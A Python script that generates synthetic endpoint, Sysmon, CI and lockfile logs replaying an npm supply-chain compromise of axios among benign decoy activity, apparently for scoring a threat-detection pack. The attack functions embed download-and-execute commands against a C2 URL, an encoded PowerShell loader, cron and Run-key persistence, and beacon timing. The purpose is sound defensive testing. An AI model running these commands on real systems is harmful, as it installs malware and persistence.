#!/usr/bin/env python3
"""Writes the demo scenario: a small fleet's logs, in the real formats spoor reads, holding the
March 2026 axios compromise end to end among benign activity.

    python3 scripts/scenario.py --out DIR [--fleet N]

The fleet: four Linux CI runners, three developer laptops (macOS and Linux), two Windows build
boxes, three projects' lockfiles, the npm registry metadata of the packages involved and the
organisation's audit log. Over two and a half days every host resolves the same common names,
starts ordinary processes, keeps its clock in sync and checks for updates. Then:

- an account email change to ifstap@proton.me and a token creation (audit log), and the
  malicious publishes of axios 1.14.1 and 0.30.4 adding plain-crypto-js 4.2.1 (registry metadata);
- CI job build-1182 on ci-runner-3 installs axios 1.14.1; setup.js downloads /tmp/ld.py, which
  beacons to the C2 and adds a crontab entry (GitHub Actions log, ECS endpoint events);
- dev-laptop-07 (macOS) installs axios@1.14.1; the payload lands in /Library/Caches (ECS);
- win-build-2 installs 0.30.4; a copy of PowerShell, C:\\ProgramData\\wt.exe, runs an encoded
  command, sets a Run key and beacons (Sysmon).

Near misses sit beside it: axios 1.14.0 installs, esbuild's and node-gyp's install scripts,
curl in an ordinary CI step, NTP and update checks at regular intervals, notsfrclak.com, and an
email change long before any publish.

`--seed N` writes an unseen variant of the same campaign instead, for measuring the pack on data
it was not written with: another fleet (names, sizes, which hosts are hit), another C2 domain,
address and URL (handed over as a STIX 2.1 bundle, `iocs.json`), the account takeover in another
audit source's shape and spelling (GitHub, GitLab, or a registry mirror's `npm.*` actions), times
with UTC offsets (audit logs and ECS endpoints), the implant's timer (every 30 s to 5 minutes,
from a metronome to a 30 % sleep jitter, for half an hour to six hours), Windows events as flat Sysmon JSON, Winlogbeat or Elastic Endpoint ECS, lockfiles of version 2 or 3,
and decoys that look close (a privacy-mail email change with no publish, an email change after a
publish, a publish long after a change, a nested copy of a good version, a popular domain first
looked up right after an install at the start of the data). Both modes write `truth.json`: the
attack's entities by family, and the benign hosts and decoys no high finding may name
(`scripts/score.py` scores a pack run against it).

`--fleet N` adds N busy benign hosts (build agents starting a process a minute, with their own
DNS, network, CI jobs and lockfiles) for benchmarks; the attack stays the same. About 1,400
of them make five million process events. The output is the same for the same arguments (a fixed random seed).
"""

import argparse
import base64
import datetime as dt
import hashlib
import json
import os
import random

UTC = dt.timezone.utc
START = dt.datetime(2026, 3, 29, 0, 0, tzinfo=UTC)
END = dt.datetime(2026, 3, 31, 12, 0, tzinfo=UTC)
REGISTRY = "https://registry.example.invalid"
C2 = "sfrclak.com"
C2_IP = "198.51.100.73"  # a documentation address standing in for the C2's
C2_URL = "http://sfrclak.com:8000/6202033"
DROPPER_SHA256 = "e10b1fa84f1d6481625f741b69892780140d4e0e7769e7491e5f4d894c2e0e09"
MAINTAINER = "jasonsaayman"

# What a variant (`--seed`) changes; the demo's values by default.
AUDIT_SHAPE = "github"      # github, gitlab or registry
WINDOWS_SHAPE = "flat"      # flat (Sysmon as NXLog/Mordor JSON), winlogbeat, or ecs (Elastic Endpoint)
LOCKFILE_VERSION = 3
UTC_OFFSET = dt.timedelta(0)  # how audit records write their times
BEACON_INTERVAL = 60          # seconds between the implant's calls home
BEACON_JITTER = 0.025         # each call within this fraction of the interval of its slot
BEACON_SLEEP = False          # True: each call sleeps interval +- jitter after the last (Cobalt Strike's sleep)
BEACON_HOURS = None           # how long the implant calls home (None: the demo's eight or nine calls)

COMMON_DOMAINS = [
    "github.com", "api.github.com", "objects.githubusercontent.com", "registry.example.invalid",
    "pypi.example.invalid", "update.example.invalid", "time.example.invalid", "notsfrclak.com",
    "slack.example.com", "mail.example.com",
]
COMMON_IPS = {
    "github.com": "192.0.2.10", "api.github.com": "192.0.2.11", "objects.githubusercontent.com": "192.0.2.12",
    "registry.example.invalid": "192.0.2.20", "pypi.example.invalid": "192.0.2.21",
    "update.example.invalid": "192.0.2.30", "time.example.invalid": "192.0.2.123",
    "notsfrclak.com": "203.0.113.10", "slack.example.com": "192.0.2.40", "mail.example.com": "192.0.2.41",
}


def stable(text):
    """A hash that is the same in every run (Python's own hash() of a string is not)."""
    return int(hashlib.sha256(text.encode()).hexdigest(), 16)


def iso(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


def sysmon_time(t):
    return t.strftime("%Y-%m-%d %H:%M:%S.") + f"{t.microsecond // 1000:03d}"


class Host:
    def __init__(self, name, os_name, user, rnd):
        self.name, self.os, self.user, self.rnd = name, os_name, user, rnd
        self.events = []  # (time, record)
        self.pid = 1000 + rnd.randrange(500)
        self.root = self.start(START - dt.timedelta(days=3), "systemd" if os_name != "windows" else "explorer.exe",
                               "/sbin/init" if os_name != "windows" else "C:\\Windows\\explorer.exe", None, record=False)

    def next_pid(self):
        self.pid += self.rnd.randrange(1, 40)
        return self.pid

    def guid(self, pid):
        if self.os == "windows":
            return "{%08x-%04x-%04x-0000-%012x}" % (stable(f"{self.name}/{pid}") & 0xFFFFFFFF, pid & 0xFFFF, 0x6643, pid)
        return f"{self.name}-{pid}"

    def start(self, t, name, command_line, parent, record=True, executable=None, sha256=None, cwd=None):
        pid = self.next_pid()
        proc = {"pid": pid, "name": name, "command_line": command_line, "entity_id": self.guid(pid),
                "executable": executable or self.default_path(name)}
        if record:
            self.events.append((t, ("process", proc, parent, sha256, cwd)))
        return proc

    def default_path(self, name):
        if self.os == "windows":
            return {"node.exe": "C:\\Program Files\\nodejs\\node.exe", "cmd.exe": "C:\\Windows\\System32\\cmd.exe",
                    "powershell.exe": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "git.exe": "C:\\Program Files\\Git\\cmd\\git.exe"}.get(name, "C:\\Windows\\System32\\" + name)
        return {"node": "/usr/local/bin/node", "sh": "/bin/sh", "bash": "/bin/bash", "zsh": "/bin/zsh",
                "curl": "/usr/bin/curl", "python3": "/usr/bin/python3", "git": "/usr/bin/git",
                "crontab": "/usr/bin/crontab", "make": "/usr/bin/make", "g++": "/usr/bin/g++",
                "chronyd": "/usr/sbin/chronyd"}.get(name, "/usr/bin/" + name)

    def dns(self, t, proc, name, ips):
        self.events.append((t, ("dns", proc, name, ips)))

    def connect(self, t, proc, ip, port):
        self.events.append((t, ("network", proc, ip, port)))

    def file(self, t, proc, action, path, sha256=None):
        self.events.append((t, ("file", proc, action, path, sha256)))

    def registry(self, t, proc, path, value):
        self.events.append((t, ("registry", proc, path, value)))


# ---------------------------------------------------------------------------------------------
# Writers: ECS NDJSON (Linux and macOS endpoints) and Sysmon as flat Windows-event JSON.


def ecs_time(t):
    """An endpoint's time as its agent writes it: in UTC, or with the variant's UTC offset."""
    if not UTC_OFFSET:
        return iso(t)
    return t.astimezone(dt.timezone(UTC_OFFSET)).isoformat(timespec="milliseconds")


def ecs_record(host, t, event):
    kind = event[0]
    base = {"@timestamp": ecs_time(t), "ecs": {"version": "8.11.0"}, "host": {"name": host.name, "os": {"type": host.os}},
            "agent": {"type": "endpoint"}}
    if kind == "process":
        _, proc, parent, sha256, cwd = event
        p = {"pid": proc["pid"], "entity_id": proc["entity_id"], "name": proc["name"],
             "executable": proc["executable"], "command_line": proc["command_line"]}
        if cwd:
            p["working_directory"] = cwd
        if sha256:
            p["hash"] = {"sha256": sha256}
        if parent:
            p["parent"] = {"pid": parent["pid"], "entity_id": parent["entity_id"], "name": parent["name"],
                           "executable": parent["executable"], "command_line": parent["command_line"]}
        base.update({"event": {"category": ["process"], "type": ["start"], "action": "exec"},
                     "process": p, "user": {"name": host.user}})
    elif kind == "dns":
        _, proc, name, ips = event
        base.update({"event": {"category": ["network"], "type": ["protocol"], "action": "lookup_result"},
                     "process": {"pid": proc["pid"], "entity_id": proc["entity_id"], "name": proc["name"]},
                     "dns": {"question": {"name": name, "type": "A"}, "response_code": "NOERROR",
                             "resolved_ip": ips, "answers": [{"data": ip, "type": "A"} for ip in ips]},
                     "user": {"name": host.user}})
    elif kind == "network":
        _, proc, ip, port = event
        base.update({"event": {"category": ["network"], "type": ["connection", "start"], "action": "connection_attempted"},
                     "process": {"pid": proc["pid"], "entity_id": proc["entity_id"], "name": proc["name"],
                                 "executable": proc["executable"]},
                     "source": {"ip": "10.0.%d.%d" % (stable(host.name) % 200, 10 + stable(host.name + "/ip") % 200), "port": 40000 + proc["pid"] % 20000},
                     "destination": {"ip": ip, "port": port},
                     "network": {"transport": "udp" if port == 123 else "tcp", "direction": "egress"},
                     "user": {"name": host.user}})
    elif kind == "registry":
        _, proc, path, value = event
        hive, _, rest = path.partition("\\")
        key, _, name = rest.rpartition("\\")
        base.update({"event": {"category": ["registry"], "type": ["change"], "action": "modification"},
                     "process": {"pid": proc["pid"], "entity_id": proc["entity_id"], "name": proc["name"],
                                 "executable": proc["executable"]},
                     "registry": {"path": path, "hive": hive, "key": key, "value": name,
                                  "data": {"strings": [value], "type": "REG_SZ"}},
                     "user": {"name": host.user}})
    elif kind == "file":
        _, proc, action, path, sha256 = event
        f = {"path": path, "name": path.rsplit("\\" if host.os == "windows" else "/", 1)[-1]}
        if sha256:
            f["hash"] = {"sha256": sha256}
        base.update({"event": {"category": ["file"], "type": [action], "action": action},
                     "process": {"pid": proc["pid"], "entity_id": proc["entity_id"], "name": proc["name"],
                                 "executable": proc["executable"]},
                     "file": f, "user": {"name": host.user}})
    return base


def sysmon_record(host, t, event):
    kind = event[0]
    record = {"@timestamp": iso(t), "Hostname": host.name.upper(), "Channel": "Microsoft-Windows-Sysmon/Operational",
              "SourceName": "Microsoft-Windows-Sysmon", "UtcTime": sysmon_time(t)}
    user = f"CORP\\{host.user}"
    if kind == "process":
        _, proc, parent, sha256, cwd = event
        record.update({"EventID": 1, "ProcessGuid": proc["entity_id"], "ProcessId": str(proc["pid"]),
                       "Image": proc["executable"], "CommandLine": proc["command_line"], "User": user,
                       "CurrentDirectory": cwd or "C:\\build\\",
                       "Hashes": "SHA256=" + (sha256 or ("%064x" % stable(proc["executable"])))})
        if parent:
            record.update({"ParentProcessGuid": parent["entity_id"], "ParentProcessId": str(parent["pid"]),
                           "ParentImage": parent["executable"], "ParentCommandLine": parent["command_line"]})
    elif kind == "dns":
        _, proc, name, ips = event
        record.update({"EventID": 22, "ProcessGuid": proc["entity_id"], "ProcessId": str(proc["pid"]),
                       "Image": proc["executable"], "QueryName": name, "QueryStatus": "0",
                       "QueryResults": "".join(f"::ffff:{ip};" for ip in ips), "User": user})
    elif kind == "network":
        _, proc, ip, port = event
        record.update({"EventID": 3, "ProcessGuid": proc["entity_id"], "ProcessId": str(proc["pid"]),
                       "Image": proc["executable"], "User": user, "Protocol": "udp" if port == 123 else "tcp",
                       "Initiated": "true", "SourceIp": "10.0.5.20", "SourcePort": str(50000 + proc["pid"] % 10000),
                       "DestinationIp": ip, "DestinationPort": str(port)})
    elif kind == "file":
        _, proc, action, path, sha256 = event
        record.update({"EventID": 11 if action == "creation" else 26, "ProcessGuid": proc["entity_id"],
                       "ProcessId": str(proc["pid"]), "Image": proc["executable"], "TargetFilename": path,
                       "User": user})
        if sha256:
            record["Hashes"] = "SHA256=" + sha256.upper()
    elif kind == "registry":
        _, proc, path, value = event
        record.update({"EventID": 13, "EventType": "SetValue", "ProcessGuid": proc["entity_id"],
                       "ProcessId": str(proc["pid"]), "Image": proc["executable"], "TargetObject": path,
                       "Details": value, "User": user})
    return record


def winlogbeat_record(record):
    """A flat Sysmon record as Winlogbeat ships it: the event data under `winlog.event_data`."""
    envelope = {"@timestamp", "Hostname", "Channel", "SourceName", "EventID"}
    return {"@timestamp": record["@timestamp"], "host": {"name": record["Hostname"].lower()},
            "winlog": {"channel": record["Channel"], "provider_name": record["SourceName"],
                       "event_id": record["EventID"], "computer_name": record["Hostname"],
                       "event_data": {k: str(v) for k, v in record.items() if k not in envelope}}}


def write_host(out, host):
    host.events.sort(key=lambda e: e[0])
    if host.os == "windows" and WINDOWS_SHAPE != "ecs":
        path = os.path.join(out, "edr", "sysmon", f"{host.name}.json")
        records = [sysmon_record(host, t, e) for t, e in host.events]
        if WINDOWS_SHAPE == "winlogbeat":
            records = [winlogbeat_record(r) for r in records]
    else:
        path = os.path.join(out, "edr", "endpoint", f"{host.name}.ndjson")
        records = [ecs_record(host, t, e) for t, e in host.events]
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        for r in records:
            f.write(json.dumps(r, separators=(",", ":")) + "\n")


# ---------------------------------------------------------------------------------------------
# Benign activity


def benign(host, rnd, busy=False):
    shell_name = "cmd.exe" if host.os == "windows" else ("zsh" if host.os == "macos" else "bash")
    shell = host.start(START, shell_name, shell_name, host.root)
    resolver = host.start(START, "svchost.exe" if host.os == "windows" else "systemd-resolved",
                          "svchost.exe -k NetworkService" if host.os == "windows" else "/lib/systemd/systemd-resolved",
                          host.root, record=False)
    ntp = host.start(START, "svchost.exe" if host.os == "windows" else "chronyd",
                     "svchost.exe -k LocalService -s W32Time" if host.os == "windows" else "/usr/sbin/chronyd -F 1",
                     host.root, record=False)
    updater = host.start(START, "updater.exe" if host.os == "windows" else "updater",
                         "updater --check" if host.os == "windows" else "/opt/update/updater --check",
                         host.root, record=False)
    # Every host asks for every common name early on, then now and then.
    t = START + dt.timedelta(minutes=rnd.randrange(1, 30))
    for name in COMMON_DOMAINS:
        host.dns(t, resolver, name, [COMMON_IPS[name]])
        t += dt.timedelta(seconds=rnd.randrange(5, 90))
    t = START + dt.timedelta(hours=1)
    while t < END:
        name = rnd.choice(COMMON_DOMAINS)
        host.dns(t, resolver, name, [COMMON_IPS[name]])
        if name not in ("time.example.invalid", "update.example.invalid"):
            host.connect(t + dt.timedelta(milliseconds=40), resolver, COMMON_IPS[name], 443)
        t += dt.timedelta(minutes=rnd.randrange(8, 50), seconds=rnd.randrange(60))
    # Clock sync every 17 minutes, update checks every hour: regular, and the whole fleet does it.
    t = START + dt.timedelta(minutes=rnd.randrange(17))
    while t < END:
        host.connect(t, ntp, COMMON_IPS["time.example.invalid"], 123)
        t += dt.timedelta(minutes=17, milliseconds=rnd.randrange(-300, 300))
    t = START + dt.timedelta(minutes=rnd.randrange(60))
    while t < END:
        host.connect(t, updater, COMMON_IPS["update.example.invalid"], 443)
        t += dt.timedelta(hours=1, milliseconds=rnd.randrange(-900, 900))
    # Everyday commands.
    commands = (["git.exe status", "git.exe pull", "tasklist.exe", "whoami.exe", "ipconfig.exe /all"]
                if host.os == "windows" else ["git status", "git pull --rebase", "ls -la", "ps aux", "python3 -m pytest -q",
                                               "docker ps", "uname -a"])
    t = START + dt.timedelta(minutes=rnd.randrange(30))
    while t < END:
        command = rnd.choice(commands)
        host.start(t, command.split()[0], command, shell)
        t += dt.timedelta(seconds=rnd.randrange(20, 100)) if busy else dt.timedelta(minutes=rnd.randrange(15, 90))


def npm_process(host, t, parent, command, cwd):
    if host.os == "windows":
        return host.start(t, "node.exe",
                          '"C:\\Program Files\\nodejs\\node.exe" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" '
                          + command.split(" ", 1)[1], parent, cwd=cwd)
    return host.start(t, "node", command, parent, cwd=cwd)


def lifecycle(host, t, npm, package_dir, command):
    """npm runs a lifecycle script through the shell: sh -c <command> → the command."""
    if host.os == "windows":
        shell = host.start(t, "cmd.exe", f"C:\\Windows\\system32\\cmd.exe /d /s /c {command}", npm, cwd=package_dir)
        child = host.start(t + dt.timedelta(milliseconds=30), "node.exe", command, shell, cwd=package_dir)
    else:
        shell = host.start(t, "sh", f"sh -c {command}", npm, cwd=package_dir)
        first = command.split()[0]
        child = host.start(t + dt.timedelta(milliseconds=30), first, command, shell, cwd=package_dir)
    return child


def benign_installs(laptop):
    """esbuild's postinstall, node-gyp builds, curl in a CI step: install-time activity that is fine."""
    t = dt.datetime(2026, 3, 30, 10, 15, tzinfo=UTC)
    shell = laptop.start(t - dt.timedelta(seconds=3), "bash", "bash", laptop.root)
    npm = npm_process(laptop, t, shell, "npm install esbuild", "/home/ana/site")
    laptop.dns(t + dt.timedelta(milliseconds=200), npm, "registry.example.invalid", [COMMON_IPS["registry.example.invalid"]])
    laptop.connect(t + dt.timedelta(milliseconds=250), npm, COMMON_IPS["registry.example.invalid"], 443)
    laptop.file(t + dt.timedelta(seconds=2), npm, "creation", "/home/ana/site/node_modules/esbuild/install.js")
    script = lifecycle(laptop, t + dt.timedelta(seconds=3), npm, "/home/ana/site/node_modules/esbuild", "node install.js")
    laptop.start(t + dt.timedelta(seconds=4), "esbuild", "/home/ana/site/node_modules/@esbuild/linux-x64/bin/esbuild --version", script)
    t = dt.datetime(2026, 3, 30, 16, 40, tzinfo=UTC)
    npm = npm_process(laptop, t, shell, "npm install", "/home/ana/native-addon")
    gyp = lifecycle(laptop, t + dt.timedelta(seconds=5), npm, "/home/ana/native-addon", "node-gyp rebuild")
    make = laptop.start(t + dt.timedelta(seconds=7), "make", "make BUILDTYPE=Release -C build", gyp)
    laptop.start(t + dt.timedelta(seconds=8), "g++", "g++ -o Release/obj.target/addon/src/addon.o ../src/addon.cc", make)


# ---------------------------------------------------------------------------------------------
# The attack


def linux_runner_attack(host, t):
    """CI job build-1182: npm install pulls axios 1.14.1 → plain-crypto-js 4.2.1 → setup.js."""
    runner = host.start(t - dt.timedelta(seconds=30), "Runner.Worker", "/home/runner/actions-runner/bin/Runner.Worker spawnclient 107 110", host.root)
    step = host.start(t - dt.timedelta(seconds=1), "bash", "/usr/bin/bash -e /home/runner/work/_temp/4f0c2b.sh", runner)
    npm = npm_process(host, t, step, "npm install", "/home/runner/work/web-app/web-app")
    host.dns(t + dt.timedelta(milliseconds=120), npm, "registry.example.invalid", [COMMON_IPS["registry.example.invalid"]])
    host.connect(t + dt.timedelta(milliseconds=160), npm, COMMON_IPS["registry.example.invalid"], 443)
    package_dir = "/home/runner/work/web-app/web-app/node_modules/plain-crypto-js"
    host.file(t + dt.timedelta(seconds=2), npm, "creation", f"{package_dir}/setup.js", DROPPER_SHA256)
    script = lifecycle(host, t + dt.timedelta(seconds=3), npm, package_dir, "node setup.js")
    t2 = t + dt.timedelta(seconds=4)
    command = f"curl -o /tmp/ld.py -d packages.npm.org/product2 -s {C2_URL} && nohup python3 /tmp/ld.py {C2_URL} > /dev/null 2>&1 &"
    sh = host.start(t2, "sh", f"sh -c {command}", script, cwd=package_dir)
    curl = host.start(t2 + dt.timedelta(milliseconds=20), "curl", f"curl -o /tmp/ld.py -d packages.npm.org/product2 -s {C2_URL}", sh)
    host.dns(t2 + dt.timedelta(milliseconds=60), curl, C2, [C2_IP])
    host.connect(t2 + dt.timedelta(milliseconds=90), curl, C2_IP, 8000)
    host.file(t2 + dt.timedelta(milliseconds=400), curl, "creation", "/tmp/ld.py")
    host.file(t + dt.timedelta(seconds=6), script, "deletion", f"{package_dir}/setup.js", DROPPER_SHA256)
    host.file(t + dt.timedelta(seconds=6, milliseconds=10), script, "modification", f"{package_dir}/package.json")
    payload = host.start(t2 + dt.timedelta(seconds=1), "python3", f"python3 /tmp/ld.py {C2_URL}", sh)
    cron = host.start(t2 + dt.timedelta(seconds=3), "crontab", "crontab /tmp/.ld.cron", payload)
    host.file(t2 + dt.timedelta(seconds=3, milliseconds=200), cron, "creation", "/var/spool/cron/crontabs/runner")
    beacon(host, payload, t2 + dt.timedelta(seconds=5), 9)


def beacon(host, proc, t, count):
    if BEACON_HOURS is not None:
        count = max(count, int(BEACON_HOURS * 3600 / BEACON_INTERVAL))
    host.dns(t - dt.timedelta(milliseconds=30), proc, C2, [C2_IP])
    half = int(BEACON_INTERVAL * BEACON_JITTER * 1000)
    at = t
    for i in range(count):
        jitter = dt.timedelta(milliseconds=host.rnd.randrange(-half, half) if half else 0)
        if BEACON_SLEEP:
            host.connect(at, proc, C2_IP, 8000)
            at += dt.timedelta(seconds=BEACON_INTERVAL) + jitter
        else:
            host.connect(t + dt.timedelta(seconds=BEACON_INTERVAL * i) + jitter, proc, C2_IP, 8000)


def macos_attack(host, t):
    shell = host.start(t - dt.timedelta(seconds=20), "zsh", "-zsh", host.root)
    npm = npm_process(host, t, shell, "npm install axios@1.14.1", "/Users/dev/src/dashboard")
    host.dns(t + dt.timedelta(milliseconds=100), npm, "registry.example.invalid", [COMMON_IPS["registry.example.invalid"]])
    package_dir = "/Users/dev/src/dashboard/node_modules/plain-crypto-js"
    host.file(t + dt.timedelta(seconds=2), npm, "creation", f"{package_dir}/setup.js", DROPPER_SHA256)
    script = lifecycle(host, t + dt.timedelta(seconds=3), npm, package_dir, "node setup.js")
    t2 = t + dt.timedelta(seconds=4)
    target = "/Library/Caches/com.apple.act.mond"
    command = (f"curl -o {target} -d packages.npm.org/product0 -s {C2_URL} && chmod 770 {target} && "
               f"/bin/zsh -c \"{target} {C2_URL} &\" &> /dev/null")
    sh = host.start(t2, "sh", f"sh -c {command}", script, cwd=package_dir)
    curl = host.start(t2 + dt.timedelta(milliseconds=20), "curl", f"curl -o {target} -d packages.npm.org/product0 -s {C2_URL}", sh)
    host.dns(t2 + dt.timedelta(milliseconds=50), curl, C2, [C2_IP])
    host.connect(t2 + dt.timedelta(milliseconds=80), curl, C2_IP, 8000)
    host.file(t2 + dt.timedelta(milliseconds=500), curl, "creation", target)
    host.file(t + dt.timedelta(seconds=6), script, "deletion", f"{package_dir}/setup.js", DROPPER_SHA256)
    zsh = host.start(t2 + dt.timedelta(seconds=1), "zsh", f"/bin/zsh -c {target} {C2_URL} &", sh)
    payload = host.start(t2 + dt.timedelta(seconds=1, milliseconds=50), "com.apple.act.mond", f"{target} {C2_URL}", zsh,
                         executable=target)
    beacon(host, payload, t2 + dt.timedelta(seconds=3), 8)


def windows_attack(host, t):
    shell = host.start(t - dt.timedelta(seconds=15), "cmd.exe", "cmd.exe", host.root)
    npm = npm_process(host, t, shell, "npm install", "C:\\build\\legacy-admin\\")
    package_dir = "C:\\build\\legacy-admin\\node_modules\\plain-crypto-js"
    host.file(t + dt.timedelta(seconds=2), npm, "creation", f"{package_dir}\\setup.js")
    script = lifecycle(host, t + dt.timedelta(seconds=3), npm, package_dir, "node setup.js")
    t2 = t + dt.timedelta(seconds=4)
    ps = (f"$u='{C2_URL}';$p=\"$env:PROGRAMDATA\\wt.ps1\";Invoke-WebRequest -Uri $u -OutFile $p -UseBasicParsing;"
          f"& $p $u")
    encoded = base64.b64encode(ps.encode("utf-16-le")).decode()
    command = (f"cmd.exe /c copy C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe C:\\ProgramData\\wt.exe "
               f"& C:\\ProgramData\\wt.exe -w hidden -ep bypass -enc {encoded}")
    cmd = host.start(t2, "cmd.exe", command, script, cwd=package_dir)
    host.file(t2 + dt.timedelta(milliseconds=300), cmd, "creation", "C:\\ProgramData\\wt.exe")
    wt = host.start(t2 + dt.timedelta(milliseconds=600), "wt.exe", f"C:\\ProgramData\\wt.exe -w hidden -ep bypass -enc {encoded}",
                    cmd, executable="C:\\ProgramData\\wt.exe",
                    sha256="de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c")
    host.file(t + dt.timedelta(seconds=6), script, "deletion", f"{package_dir}\\setup.js", DROPPER_SHA256)
    host.registry(t2 + dt.timedelta(seconds=2), wt,
                  "HKU\\S-1-5-21-3940915590-64593676-1414006259-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\MicrosoftUpdate",
                  "C:\\ProgramData\\wt.exe -w hidden -ep bypass -f C:\\ProgramData\\wt.ps1")
    beacon(host, wt, t2 + dt.timedelta(seconds=3), 8)


# ---------------------------------------------------------------------------------------------
# CI logs, lockfiles, registry metadata and the audit log


def ci_log(out, job, runner, t, lines):
    path = os.path.join(out, "ci", f"{job}.log")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    stamp = lambda t: t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond:06d}0Z"
    header = ["Current runner version: '2.330.0'", "Runner name: 'runner-pool-" + runner[-1] + "'",
              f"Machine name: '{runner}'", "##[group]Operating System", "Ubuntu", "24.04.2", "LTS", "##[endgroup]"]
    with open(path, "w") as f:
        for line in header:
            f.write(f"{stamp(t)} {line}\n")
        for offset, line in lines:
            f.write(f"{stamp(t + dt.timedelta(milliseconds=offset))} {line}\n")


def fetch(name, version):
    tail = name.split("/")[-1]
    return f"npm http fetch GET 200 {REGISTRY}/{name}/-/{tail}-{version}.tgz 41ms (cache miss)"


def ci_logs(out, fleet, cast):
    ci_log(out, "build-1180", cast["runners_ok"][0], dt.datetime(2026, 3, 30, 14, 0, tzinfo=UTC), [
        (1000, "##[group]Run npm ci --loglevel http"),
        (1100, "npm ci --loglevel http"),
        (1500, fetch("axios", "1.14.0")), (1520, fetch("follow-redirects", "1.15.11")),
        (1540, fetch("form-data", "4.0.4")), (1560, fetch("esbuild", "0.25.2")),
        (1580, fetch("@esbuild/linux-x64", "0.25.2")),
        (3000, "> esbuild@0.25.2 postinstall"), (3010, "> node install.js"),
        (4000, "added 212 packages in 3s"), (4100, "##[endgroup]"),
        (5000, "##[group]Run curl -Os https://uploader.example.invalid/latest/linux/codecov && ./codecov"),
        (5100, "##[endgroup]"),
    ])
    ci_log(out, "build-1182", cast["runner_hit"], cast["runner_time"] - dt.timedelta(seconds=14), [
        (14000, "##[group]Run npm install --loglevel http"),
        (14100, "npm install --loglevel http"),
        (14900, fetch("axios", "1.14.1")), (14950, fetch("plain-crypto-js", "4.2.1")),
        (14970, fetch("follow-redirects", "1.15.11")), (14990, fetch("form-data", "4.0.4")),
        (17000, "> plain-crypto-js@4.2.1 postinstall"), (17010, "> node setup.js"),
        (19000, "added 213 packages in 5s"), (19100, "##[endgroup]"),
    ])
    ci_log(out, "build-1185", cast["runners_ok"][1], dt.datetime(2026, 3, 31, 2, 10, tzinfo=UTC), [
        (1000, "##[group]Run npm ci --loglevel http"), (1100, "npm ci --loglevel http"),
        (1500, fetch("axios", "1.14.0")), (1540, fetch("esbuild", "0.25.2")),
        (3000, "> esbuild@0.25.2 postinstall"), (3010, "> node install.js"),
        (4000, "added 212 packages in 3s"), (4100, "##[endgroup]"),
    ])
    ci_log(out, "build-1190", cast["runners_ok"][2], dt.datetime(2026, 3, 31, 5, 0, tzinfo=UTC), [
        (1000, "##[group]Run npm install --loglevel http"), (1100, "npm install --loglevel http"),
        (1500, fetch("axios", "1.14.0")), (1540, fetch("follow-redirects", "1.15.11")),
        (4000, "added 31 packages in 2s"), (4100, "##[endgroup]"),
    ])
    for i in range(fleet):
        runner = f"fleet-{i:05d}"
        ci_log(out, f"build-{2000 + i}", runner, dt.datetime(2026, 3, 30, 8, 0, tzinfo=UTC) + dt.timedelta(minutes=7 * i), [
            (1000, "##[group]Run npm ci --loglevel http"), (1500, fetch("axios", "1.14.0")),
            (1540, fetch("esbuild", "0.25.2")), (4000, "added 212 packages in 3s"), (4100, "##[endgroup]"),
        ])


def lockfiles(out, fleet, nested_copy=False):
    def npm_lock(project, packages):
        entries = {"": {"name": project, "version": "1.0.0", "dependencies": {n: "^" + v for n, v, *_ in packages if n in ("axios", "esbuild")}}}
        for name, version, *flags in packages:
            tail = name.split("/")[-1]
            entry = {"version": version, "resolved": f"{REGISTRY}/{name}/-/{tail}-{version}.tgz",
                     "integrity": "sha512-" + base64.b64encode(f"{name}@{version}".encode().ljust(64, b"\0")).decode()}
            if "script" in flags:
                entry["hasInstallScript"] = True
            if "dev" in flags:
                entry["dev"] = True
            entries[f"node_modules/{name}"] = entry
        doc = {"name": project, "version": "1.0.0", "lockfileVersion": LOCKFILE_VERSION, "requires": True,
               "packages": entries}
        if LOCKFILE_VERSION == 2:
            # Version 2 also keeps version 1's `dependencies` tree for older npm.
            doc["dependencies"] = {k.split("node_modules/", 1)[1]: {"version": v["version"], "resolved": v["resolved"]}
                                   for k, v in entries.items() if k}
        path = os.path.join(out, "lockfiles", project, "package-lock.json")
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            json.dump(doc, f, indent=2)
            f.write("\n")

    npm_lock("web-app", [("axios", "1.14.1"), ("plain-crypto-js", "4.2.1", "script"), ("follow-redirects", "1.15.11"),
                         ("form-data", "4.0.4"), ("esbuild", "0.25.2", "script", "dev"), ("@esbuild/linux-x64", "0.25.2", "dev")])
    common = [("axios", "1.14.0"), ("follow-redirects", "1.15.11"), ("form-data", "4.0.4"), ("esbuild", "0.25.2", "script", "dev")]
    for i in range(fleet // 10):
        filler = [(f"pkg-{(i * 7 + j) % 500:03d}", f"1.{j % 9}.{i % 7}") for j in range(46)]
        npm_lock(f"service-{i:04d}", common + filler)
    api = [("axios", "1.14.0"), ("follow-redirects", "1.15.11"), ("form-data", "4.0.4"),
           ("esbuild", "0.25.2", "script", "dev"), ("@esbuild/linux-x64", "0.25.2", "dev")]
    if nested_copy:
        # A dependency that bundles its own copy of a good axios.
        api += [("api-sdk", "2.3.0"), ("api-sdk/node_modules/axios", "1.13.6")]
    npm_lock("api", api)
    yarn = ["# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.", "# yarn lockfile v1", ""]
    for name, version, deps in [("axios", "0.30.4", {"follow-redirects": "^1.15.4", "form-data": "^4.0.0", "plain-crypto-js": "^4.2.1"}),
                                ("follow-redirects", "1.15.11", {}), ("form-data", "4.0.4", {}), ("plain-crypto-js", "4.2.1", {})]:
        yarn.append(f"{name}@^{version}:")
        yarn.append(f'  version "{version}"')
        yarn.append(f'  resolved "{REGISTRY}/{name}/-/{name}-{version}.tgz"')
        if deps:
            yarn.append("  dependencies:")
            yarn.extend(f'    {d} "{r}"' for d, r in deps.items())
        yarn.append("")
    path = os.path.join(out, "lockfiles", "legacy-admin", "yarn.lock")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write("\n".join(yarn))


def packument(out, name, versions):
